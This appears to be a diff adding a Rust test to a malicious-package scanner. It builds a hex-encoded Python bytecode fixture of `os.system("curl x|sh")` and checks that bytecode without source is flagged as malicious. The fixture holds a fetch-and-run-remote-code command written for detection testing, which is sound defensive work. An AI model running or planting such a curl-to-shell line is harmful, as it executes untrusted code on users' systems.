@@ -103,3 +103,43 @@ fn helper_called_from_an_install_command_runs_at_install() {
     let top = &report["files"][0];
     assert!(top["path"].as_str().unwrap().ends_with("pre_install.py"));
 }
+
+/// A CPython 3.11 `.pyc` of `import os\nos.system("curl x|sh")`, written for this test.
+fn pyc() -> Vec<u8> {
+    let hex = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
+    let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
+    data.extend([0u8; 12]);
+    data.extend(
+        hex.as_bytes()
+            .chunks(2)
+            .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap()),
+    );
+    data
+}
+
+#[test]
+fn pyc_without_source_counts_and_beside_source_does_not() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(&root, &[("pkg/__init__.py", "")]);
+    std::fs::create_dir_all(root.join("pkg/__pycache__")).unwrap();
+    std::fs::write(root.join("pkg/__pycache__/__init__.cpython-311.pyc"), pyc()).unwrap();
+    std::fs::write(root.join("pkg/__pycache__/tool.cpython-311.pyc"), pyc()).unwrap();
+    let report = scan(&root);
+    let files = report["files"].as_array().unwrap();
+    let bytecode_only = |name: &str| {
+        let file = files
+            .iter()
+            .find(|f| f["path"].as_str().unwrap().ends_with(name))
+            .unwrap();
+        file["evidence"].as_array().unwrap().iter().any(|e| {
+            e["message"]
+                .as_str()
+                .unwrap()
+                .contains("without the source")
+        })
+    };
+    assert!(bytecode_only("tool.cpython-311.pyc"));
+    assert!(!bytecode_only("__init__.cpython-311.pyc"));
+    assert_eq!(report["verdict"], "malicious");
+}
